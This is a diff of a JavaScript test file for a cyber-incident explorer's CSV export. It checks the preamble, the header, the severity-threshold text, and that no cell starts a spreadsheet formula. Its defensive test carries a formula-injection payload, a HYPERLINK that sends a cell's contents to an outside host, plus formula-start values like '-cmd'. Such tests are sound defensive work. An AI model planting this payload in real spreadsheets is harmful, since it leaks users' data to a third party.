@@ -1,12 +1,12 @@
 // The JavaScript logic that stays in JavaScript, tested in Node without a browser: column guessing
-// for the mapping form, the CSV download's columns, the per-view sentences and the card's words,
+// for the mapping form, the CSV download's preamble and header, the per-view sentences and the card's words,
 // all read from the generated vocabularies (www/schema.js).
 import { test } from 'node:test';
 import assert from 'node:assert/strict';
 import { FILTERS, VIEWS, FORMATS } from '../../www/schema.js';
 import { COLUMNS, MAPPING_FIELDS } from '../../www/schema-files.js';
 import { guessColumn } from '../../www/load-ui.js';
-import { csvOf } from '../../www/downloads.js';
+import { csvHead } from '../../www/downloads.js';
 import { chartNote, describe, thresholdsText } from '../../www/stats-view.js';
 import { formatDate, safeUrl, thresholdText, treatyText } from '../../www/card.js';
 import { compareCsv } from '../../www/compare.js';
@@ -38,23 +38,17 @@ test('the mapping form guesses columns from their names', () => {
   assert.deepEqual(MAPPING_FIELDS.filter((f) => f.required).map((f) => f.name), ['start', 'initiator']);
 });
 
-test('the CSV download writes the columns the explorer reads, lists joined as it splits them', () => {
-  const record = {
-    id: 'x-1', name: 'Comma, "quoted"', start: '2014-11-24', end: null, initiator: 'PRK', targets: ['USA', 'KOR'],
-    targetType: 'private', method: 'wiper', objective: null, severity: 6, rationale: '', attributedBy: 'FBI',
-    attributionDate: '2014-12-19', description: 'two\nlines', sources: ['https://a.example/1', 'https://b.example/2'],
-  };
+test('the CSV download\'s preamble names dataset, filters and reading, then the header the explorer reads', () => {
+  // The rows are written by the core (Explorer.csvRows; tests/csv_export.rs).
   const facets = { source: 'bundled', version: '1.0.0', total: 126, scale: LADDER };
-  const text = csvOf([record], { facets, reading: FRANCE, filterText: 'initiators=PRK', link: 'https://x.example/#v', now: new Date('2026-01-02T03:04:05Z') });
+  const text = csvHead(2, { facets, reading: FRANCE, filterText: 'initiators=PRK', link: 'https://x.example/#v', now: new Date('2026-01-02T03:04:05Z') });
   const lines = text.split('\r\n');
-  const header = lines.find((l) => !l.startsWith('"#'));
-  assert.equal(header, COLUMNS.map((c) => c.name).join(','));
-  assert.ok(text.includes('PRK,USA;KOR,'), text);
-  assert.ok(text.includes('"Comma, ""quoted"""'), 'quotes are doubled inside a quoted cell');
-  assert.ok(text.includes('https://a.example/1 https://b.example/2'));
+  assert.equal(lines.at(-1), '', 'every line ends with CRLF');
+  assert.equal(lines.at(-2), COLUMNS.map((c) => c.name).join(','));
+  assert.match(lines[0], /^"# cyber-spectrum: 2 incidents selected from the cyber-spectrum dataset, version 1\.0\.0 \(126 incidents in all\)"$/);
   assert.ok(lines.includes('"# Severity: the 0-10 escalation ladder; thresholds in the reading of France: use of force level 5 or above '
     + 'with physical damage or worse, or level 7 or above, armed attack level 8 or above"'), lines.join('\n'));
-  const other = csvOf([], { facets: { ...facets, source: 'eurepoc', scale: EUREPOC }, filterText: '', link: 'l' });
+  const other = csvHead(0, { facets: { ...facets, source: 'eurepoc', scale: EUREPOC }, filterText: '', link: 'l' });
   assert.ok(other.includes('"# Severity: EuRepoC’s weighted intensity"\r\n'), 'no thresholds on a scale without them');
 });
 
@@ -144,21 +138,16 @@ test('the element reads its presentational attributes, naming a bad one and what
 test('no CSV download carries a live formula: hostile filters and cells, read with a real CSV parser', async () => {
   const { execFileSync } = await import('node:child_process');
   const payload = '=HYPERLINK("http://host/x?"&A9,"Click for sources")';
-  const record = {
-    id: '@id', name: payload, start: '2014-11-24', end: null, initiator: 'PRK', targets: ['USA'], targetType: null,
-    method: null, objective: null, severity: 5, effects: 'data', rationale: '+1 level', attributedBy: '-cmd', attributionDate: null,
-    description: '\tTabbed', sources: ['https://a.example/1'],
-  };
   const facets = { source: 'a,"=sheet"', version: '1', total: 1, scale: LADDER };
-  const text = csvOf([record], { facets, reading: FRANCE, filterText: `search=zz,"${payload}"`, link: 'https://x.example/#v' });
+  const text = csvHead(1, { facets, reading: FRANCE, filterText: `search=zz,"${payload}"`, link: 'https://x.example/#v' });
   const rows = JSON.parse(execFileSync('python3', ['-c',
     'import csv, io, json, sys; print(json.dumps(list(csv.reader(io.StringIO(sys.stdin.read(), newline="")))))'], { input: text }));
   const cells = rows.flat();
-  assert.ok(cells.length > 20);
+  assert.ok(cells.length > 20, 'the preamble and the header');
   for (const c of cells) assert.doesNotMatch(c, /^[=+\-@\t\r]/, `a cell starts a formula: ${JSON.stringify(c)}`);
   // The preamble is one cell per line, whatever its text holds.
   for (const row of rows.filter((r) => r[0].startsWith('#'))) assert.equal(row.length, 1, JSON.stringify(row));
-  assert.ok(cells.includes(`'${payload}`), 'the payload is kept, as text');
+  assert.ok(cells.some((c) => c.includes(`search=zz,"${payload}"`)), 'the payload is kept, as text');
   const comparison = compareCsv([{ id: 'x', name: payload, useOfForce: null, armedAttack: null }], [FRANCE]);
   const parsed = JSON.parse(execFileSync('python3', ['-c',
     'import csv, io, json, sys; print(json.dumps(list(csv.reader(io.StringIO(sys.stdin.read(), newline="")))))'], { input: comparison }));
